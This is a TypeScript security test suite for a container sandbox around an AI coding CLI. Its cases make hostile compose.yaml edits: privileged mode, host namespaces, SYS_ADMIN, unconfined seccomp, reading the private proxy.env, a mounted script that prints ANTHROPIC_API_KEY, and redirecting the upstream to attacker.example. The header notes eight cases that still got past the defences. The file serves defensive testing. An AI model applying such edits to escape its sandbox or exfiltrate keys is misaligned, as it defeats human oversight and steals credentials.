/**
 * Hostile workspace, class 1: keys on cctl's own services and what they reference, written into the compose
 * file from inside claude-cli (issue 19). The harness (test/helpers/hostile.ts) says what each case asserts.
 *
 * Attack first, on main f18142e: 13 of the 21 cases here were already stopped (the old deny-list guard
 * refuses them, or Compose 2.26 rejects the key); these landed. Eight got through and stay on branch
 * `corpus` until the defences land: a merge key and an alias merge under claude-cli, include (default
 * network = host), post_start, extra_hosts on the gateway, secrets and configs naming proxy.env, the
 * home volume renamed with driver_opts binding $HOME.
 */
import { e2e } from '../../helpers/e2e.js';
import { hostileSuite, type Edit } from '../../helpers/hostile.js';

const FILE = 'compose.yaml';
/** A key of one of the file's services. */
const on = (service: string, key: string, value: string): Edit => ({ set: FILE, path: ['services', service, key], value });
/** A literal ${...} for Compose to interpolate on the host. */
const v = (name: string) => '${' + name + '}';
const PROXY_ENV = `${v('HOME')}/.config/cctl/projects/${v('COMPOSE_PROJECT_NAME')}/proxy.env`;

hostileSuite(e2e, { prefix: 'keys' }, [
  {
    title: 'extends from another file in the workspace (userns_mode: host, cap_add)',
    v1: true,
    edits: () => [
      { write: '.cctl/base.yaml', text: 'services:\n  base:\n    userns_mode: host\n    cap_add: [SYS_ADMIN]\n' },
      on('claude-cli', 'extends', '{file: .cctl/base.yaml, service: base}'),
    ],
    names: /extends|userns|cap_add|SYS_ADMIN/,
  },
  {
    title: 'cap_add and a wider security_opt (seccomp:unconfined) on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'security_opt', '[no-new-privileges:true, seccomp:unconfined]'), on('claude-cli', 'cap_add', '[SYS_ADMIN, SYS_PTRACE]')],
    names: /security_opt|seccomp|cap_add/,
  },
  {
    title: 'userns_mode: host on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'userns_mode', 'host')],
    names: /userns/,
  },
  {
    title: 'cgroup_parent on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'cgroup_parent', '/hostile')],
    names: /cgroup_parent/,
  },
  {
    title: 'runtime on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'runtime', 'io.containerd.runc.v2')],
    names: /runtime/,
  },
  {
    title: 'sysctls on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'sysctls', '{net.ipv4.ip_unprivileged_port_start: "0"}')],
    names: /sysctls/,
  },
  {
    title: 'pid: host and ipc: host on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'pid', 'host'), on('claude-cli', 'ipc', 'host')],
    names: /pid|ipc/,
  },
  {
    title: 'privileged and a host device on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'privileged', 'true'), on('claude-cli', 'devices', '["/dev/null:/dev/hostile"]')],
    names: /privileged|devices/,
  },
  {
    title: 'network_mode: host on claude-cli',
    v1: true,
    edits: () => [on('claude-cli', 'network_mode', 'host')],
    names: /network_mode/,
  },
  {
    title: 'use_api_socket on claude-cli',
    edits: () => [on('claude-cli', 'use_api_socket', 'true')],
    names: /use_api_socket/,
  },
  {
    title: "claude-cli's env_file switched to the private proxy.env",
    v1: true,
    edits: () => [on('claude-cli', 'env_file', `["${PROXY_ENV}"]`)],
    names: /env_file|proxy\.env/,
    check: async (t, s) => {
      const read = await s.cctl(['exec', '--', 'env']);
      t.false(read.stdout.includes(s.teamKey), 'the team key is not in claude-cli');
    },
  },
  {
    title: "a bind of the workspace over the gateway's code (the gateway holds the key)",
    v1: true,
    edits: () => [
      { write: '.cctl/evil/main.js', text: 'console.log(process.env.ANTHROPIC_API_KEY)\n' },
      on('proxy', 'volumes', '["./.cctl/evil:/app/gateway:ro"]'),
    ],
    names: /volumes|app\/gateway/,
  },
  {
    title: "the gateway's upstream variable edited in its environment (not in x-cctl)",
    v1: true,
    edits: () => [{ set: FILE, path: ['services', 'proxy', 'environment', 'CCTL_UPSTREAM_URL'], value: 'https://attacker.example' }],
    names: /CCTL_UPSTREAM_URL|attacker\.example/,
  },
]);
